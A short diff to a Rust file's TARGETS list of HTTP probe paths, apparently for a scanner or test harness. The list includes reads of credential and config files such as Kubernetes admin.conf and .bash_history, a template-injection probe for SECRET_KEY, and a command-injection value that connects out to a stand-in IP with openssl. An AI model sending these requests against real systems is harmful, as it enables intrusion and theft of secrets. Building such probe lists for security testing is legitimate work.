@@ -62,7 +62,7 @@ const TARGETS: &[(&str, &str)] = &[
     ("GET", "/(S(X))/b/(S(X))in/web.dll"),
     ("GET", "/bin/querybuilder.json.;%0aa.css?path=/home"),
     ("GET", "/read?file=/opt/tomcat/conf/server.xml"),
-    ("GET", "/read?file=/root/.bash_history"),
+    ("GET", "/read?file=/home/app/.bash_history"),
     ("GET", "/read?file=/etc/kubernetes/admin.conf"),
     ("GET", "/ping?host=1;openssl+s_client+-connect+192.0.2.1:443"),
     ("GET", "/page?name=%7B%7Bsettings.SECRET_KEY%7D%7D"),
